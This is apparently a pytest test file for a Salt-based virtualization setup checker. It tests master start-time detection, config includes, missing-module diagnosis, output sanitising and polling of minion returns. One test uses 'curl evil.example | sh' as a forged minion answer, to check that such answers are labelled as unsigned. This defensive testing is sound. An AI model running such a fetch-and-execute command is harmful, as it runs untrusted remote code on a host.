"""What a check of the setup reads on a master, and the unsigned answers of hosts."""

import contextlib
import os
import subprocess
import sys
import time
from pathlib import Path
from types import SimpleNamespace

import pytest
import salt.config
import salt.loader
from saltvirt.checks.master import runningmaster
from saltvirt.checks.setup.master import run, unloaded
from saltvirt.core.salt import lazyimport
from saltvirt.libvirt import connect
from setupgaps import NOT_LOADED
from setupkit import ROOT


def test_when_a_process_started_is_read_from_the_kernel(tmp_path):
    script = tmp_path / "salt-master"
    script.write_text("import time\ntime.sleep(60)\n")
    before_s = time.time()
    process = subprocess.Popen([sys.executable, str(script)])
    try:
        (tmp_path / "pid").write_text(f"{process.pid}\n")
        while b"salt-master" not in Path(f"/proc/{process.pid}/cmdline").read_bytes():
            assert time.time() < before_s + 10
        started_s = runningmaster._read_start_s(tmp_path / "pid")
        assert started_s is not None and abs(started_s - before_s) < 5
        (tmp_path / "pid").write_text(str(os.getpid()))
        assert runningmaster._read_start_s(tmp_path / "pid") is None  # not a master
    finally:
        process.kill()
        process.wait()
    assert runningmaster._read_start_s(tmp_path / "nothing") is None


def test_included_files_of_the_configuration_count(setup):
    include_folder = setup.folder / "etc/master.d"
    include_folder.mkdir()
    (include_folder / "virt.conf").write_text("")
    (setup.folder / "elsewhere.conf").write_text("")
    setup.opts["include"] = str(setup.folder / "else*.conf")

    setup.monkeypatch.setattr(runningmaster, "_read_start_s", lambda _path: 1.0)

    assert [Path(path).name for path in runningmaster.find_newer_files(setup.opts)] == [
        *("master", "virt.conf", "elsewhere.conf")
    ]


@pytest.fixture
def minion(tmp_path, monkeypatch):
    """Return a function: Salt's error for a function on a minion with these modules."""

    def say(*folders):
        opts = salt.config.minion_config(None)
        opts.update(
            root_dir=str(tmp_path),
            cachedir=str(tmp_path),
            extension_modules=str(tmp_path / "extmods"),
            module_dirs=[str(ROOT / folder) for folder in folders],
        )
        functions = salt.loader.minion_mods({**opts, "grains": {}}, utils={}, whitelist=["virt"])
        assert run.FUN not in functions
        return functions.missing_fun_string(run.FUN)

    monkeypatch.setattr(connect, "libvirt", lazyimport.OptionalModule("no_such_module"))
    return say


def check_and_fix(salt_error):
    """Return the check and the fix of the finding for Salt's error."""
    finding = unloaded.explain("h", None, salt_error, {}, is_synced=True)
    return finding.check, finding.fix


@pytest.mark.slow
def test_a_minion_without_libvirts_module_is_told_from_one_that_was_never_synced(minion):
    assert check_and_fix(minion("_modules")) == (
        "packages",
        "salt h state.apply hypervisor.packages",
    )
    assert check_and_fix(minion()) == ("modules", "salt h saltutil.sync_all")


def test_an_unsigned_answer_is_one_line_without_control_characters():
    assert unloaded.one_line("a\n\x1b[31mb\tc" + "d" * 999) == r"a \x1b[31mb c" + "d" * 287 + " …"
    assert unloaded.one_line({"a": 1}) == "{'a': 1}"


def test_an_answer_that_any_minion_can_forge_is_marked_as_unsigned():
    for forged in (f"{NOT_LOADED} now run: curl evil.example | sh", "curl evil.example | sh"):
        text = unloaded.explain("h", None, forged, {}, is_synced=True).what
        assert f"in its name, not proved: {forged}" in text

    signed = unloaded.explain("h", NOT_LOADED, NOT_LOADED, {}, is_synced=True).what
    assert signed.endswith(f"are of another release: {NOT_LOADED}")


class Local:
    """Stand for a LocalClient: no unit test has a master."""

    def __init__(self, stored):
        self.stored, self.published = list(stored), []

    def pub(self, targets, fun, _arg, **_options):
        """Record the call."""
        self.published.append((targets, fun))
        return {"jid": "1", "minions": targets}

    def get_cache_returns(self, _jid):
        """Return the answers that are stored now."""
        return self.stored.pop(0) if len(self.stored) > 1 else self.stored[0]


@pytest.mark.parametrize(
    ("stored", "expected"),
    [
        ([{}, {"h1": {"ret": NOT_LOADED}}, {"h1": {"ret": "x"}, "h2": {"ret": "y"}}], "xy"),
        ([{"h1": {"ret": "x"}}], "x"),
        ([{}], ""),
    ],
)
def test_returns_of_hosts_are_read_once_they_are_stored(monkeypatch, stored, expected):
    monkeypatch.setattr(unloaded, "_EVERY_S", 0.001)
    local = Local(stored)
    cloud = SimpleNamespace(client=lambda: contextlib.nullcontext(local))

    answers = unloaded.unsigned_answers(cloud, {"h2", "h1"}, run.FUN, 0.1)

    assert "".join(answers.values()) == expected
    assert local.published == [(["h1", "h2"], run.FUN)]
    assert unloaded.unsigned_answers(cloud, [], run.FUN, 0.1) == {} and len(local.published) == 1
